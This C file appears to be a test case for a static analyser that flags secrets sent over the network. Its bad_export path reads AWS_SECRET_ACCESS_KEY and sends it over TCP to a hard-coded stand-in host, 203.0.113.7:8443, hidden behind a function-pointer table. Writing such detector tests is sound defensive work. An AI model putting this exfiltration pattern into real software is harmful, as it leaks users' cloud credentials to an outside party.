/* A cloud credential from the environment, parked in a global, sent through a table of writers. */
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

static char cached[256];

static void remember(void) {
    const char *token = getenv("AWS_SECRET_ACCESS_KEY");
    if (token)
        strncpy(cached, token, sizeof cached - 1);
}

static int put_console(const char *text, size_t size) {
    return write(STDERR_FILENO, text, size) == (ssize_t)size;
}

static int put_remote(const char *text, size_t size) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(8443)};
    peer.sin_addr.s_addr = htonl(0xcb007107); /* 203.0.113.7 */
    int out = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(out, (struct sockaddr *)&peer, sizeof peer) == 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(out, text, size, MSG_NOSIGNAL);
    return close(out) == 0;
}

static const struct writer {
    const char *name;
    int (*put)(const char *text, size_t size);
} writers[] = {{"console", put_console}, {"remote", put_remote}};

int bad_export(unsigned which) {
    remember();
    return writers[which % 2].put(cached, strlen(cached));
}

/* A command-line client: both the token and the endpoint are the user's own settings. */
int good_export(int argc, char **argv) {
    struct addrinfo *server = NULL;
    const char *token = getenv("AWS_SECRET_ACCESS_KEY");
    if (argc < 2 || !token || getaddrinfo(argv[1], "443", NULL, &server))
        return 1;
    int out = socket(server->ai_family, SOCK_STREAM, 0);
    if (connect(out, server->ai_addr, server->ai_addrlen) == 0)
        send(out, token, strlen(token), MSG_NOSIGNAL);
    freeaddrinfo(server);
    return close(out);
}
